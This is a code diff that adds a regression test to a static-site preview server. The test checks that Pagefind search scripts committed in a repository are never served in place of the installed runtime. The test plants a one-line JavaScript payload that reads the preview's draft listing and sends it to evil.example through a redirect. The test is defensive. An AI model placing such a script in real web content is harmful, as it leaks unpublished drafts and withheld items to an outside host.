@@ -392,6 +392,32 @@ def test_only_the_theme_files_the_build_publishes_are_served(tmp_path):
     assert get(preview, "/assets/gongkai/site.css").status == 404  # not gongkai's own any more: the build refuses it
 
 
+def test_what_runs_in_the_search_page_is_never_the_site_folders(tmp_path):
+    """site/ may come from the repository: a committed `site/pagefind/pagefind.js` ran at the preview's address when
+    the editor searched, read the list of drafts and 不予公开 items, and sent it away. The preview takes Pagefind's
+    scripts and WebAssembly from the installed Pagefind, whatever site/ holds, and serves no other script of it."""
+    from gongkai.search.runtime import pagefind_runtime
+    from tests.preview.conftest import Preview
+    from tests.projects import make_project
+
+    fixture = make_project(tmp_path / "project", news=1)
+    bundle = fixture.root / "site" / "pagefind"
+    bundle.mkdir(parents=True)
+    planted = "fetch('/_preview/').then(r => r.text()).then(t => location.href = 'https://evil.example/?' + t);\n"
+    runtime = pagefind_runtime()
+    assert set(runtime) >= {"pagefind.js", "pagefind-worker.js", "wasm.unknown.pagefind"}
+    others = ("pagefind-ui.js", "pagefind-highlight.js", "evil.js", "wasm.zh.pagefind", "x.JS", "y.mjs")
+    for name in (*runtime, *others):
+        (bundle / name).write_text(planted, encoding="utf-8")
+    preview = Preview(fixture)
+    for name, data in runtime.items():
+        response = get(preview, f"/pagefind/{name}")
+        assert (response.status, response.file, response.body) == (200, None, data), name
+    assert get(preview, "/pagefind/pagefind.js").content_type == "text/javascript"
+    for name in others:
+        assert get(preview, f"/pagefind/{name}").status == 404, name
+
+
 def _served(server: PreviewServer) -> threading.Thread:
     thread = threading.Thread(target=server.serve_forever, daemon=True)
     thread.start()
